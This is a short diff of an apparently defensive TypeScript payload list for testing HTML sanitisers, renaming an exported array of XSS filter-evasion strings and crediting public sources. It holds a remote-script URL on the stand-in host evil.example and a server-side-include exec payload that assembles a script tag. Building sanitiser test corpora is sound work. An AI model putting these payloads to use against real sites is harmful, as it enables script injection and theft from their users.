@@ -1,6 +1,6 @@
-import { MUTATIONS } from './mutations'
+import { MUTATION_PAYLOADS } from './mutation-payloads'
 
-// Publicly known ways around cleaners: the OWASP cheat sheet on filter evasion, html5sec.org, DOMPurify's and mutation classics.
+// Publicly known XSS payloads from the OWASP cheat sheet on filter evasion, html5sec.org and DOMPurify.
 
 const LOAD = 'https://evil.example/x.js'
 
@@ -293,4 +293,11 @@ const EMBEDS = [
   '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT>alert(1)</SCRIPT>\'"-->',
 ]
 
-export const EVASIONS: string[] = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...STYLES, ...EMBEDS, ...MUTATIONS]
+export const XSS_PAYLOADS: string[] = [
+  ...SCRIPTS,
+  ...HANDLERS,
+  ...ADDRESSES,
+  ...STYLES,
+  ...EMBEDS,
+  ...MUTATION_PAYLOADS,
+]
